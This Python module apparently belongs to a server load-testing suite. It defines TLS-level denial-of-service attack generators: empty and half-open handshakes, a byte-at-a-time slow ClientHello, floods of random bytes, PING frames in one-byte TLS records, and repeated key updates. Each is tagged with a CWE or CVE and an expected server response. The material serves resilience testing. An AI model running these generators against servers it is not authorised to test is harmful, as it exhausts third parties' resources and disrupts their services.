"""Attacks on TLS itself: endless new handshakes, handshakes that never finish, and records that are almost empty."""

import ssl
from functools import cache

from ghostless.contract import http2_frames as f
from loadtest.hostile.attacks import CALM, Attack, Kind, Pieces, Target, ends
from loadtest.hostile.tls_wire import KeyUpdates, TlsWire
from loadtest.hostile.wire import PING

SETTINGS_ACK = f.frame(f.SETTINGS, f.ACK, 0)
_BYTE_S = 0.2
_PINGS = 64
# The server closes the connection without a message.
_CLOSED = ends("closed")


@cache
def client_hello() -> bytes:
    """The first bytes that a TLS client sends."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    try:
        context.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()
    raise AssertionError("a handshake needs a server")


def _nothing(target: Target) -> Pieces:
    yield from ()


def _half(target: Target) -> Pieces:
    """Half a handshake: the server has done its part of the work and waits for the rest."""
    yield client_hello()


def _slow(target: Target) -> Pieces:
    hello = client_hello()
    for at in range(len(hello)):
        yield hello[at : at + 1]
        yield _BYTE_S


def _no_tls(target: Target) -> Pieces:
    while True:
        yield bytes(range(256)) * 64


def _pings(target: Target) -> Pieces:
    while True:
        yield PING * _PINGS


def _settings(target: Target) -> Pieces:
    """The smallest possible data between the key updates."""
    while True:
        yield SETTINGS_ACK


HANDSHAKES = (
    Attack("TLS handshakes", "CWE-400", _nothing, _CLOSED, Kind.HANDSHAKE, opening=b""),
    Attack("half TLS handshakes", "CWE-400", _half, _CLOSED, Kind.HANDSHAKE, opening=b""),
    Attack("what is no TLS", "CWE-400", _no_tls, _CLOSED, opening=b""),
    Attack("PING in TLS records of one byte", "CVE-2019-9512", _pings, CALM, wire=TlsWire),
    Attack("TLS key updates", "CWE-400", _settings, CALM, wire=KeyUpdates),
)
WAITING_HANDSHAKES = (
    Attack("silence before TLS", "CVE-2007-6750", _nothing, _CLOSED, Kind.STALL, opening=b""),
    Attack("half-open TLS handshake", "CVE-2007-6750", _half, _CLOSED, Kind.STALL, opening=b""),
    Attack("slow ClientHello", "CVE-2007-6750", _slow, _CLOSED, Kind.STALL, opening=b""),
)
TLS_ATTACKS = (*HANDSHAKES, *WAITING_HANDSHAKES)
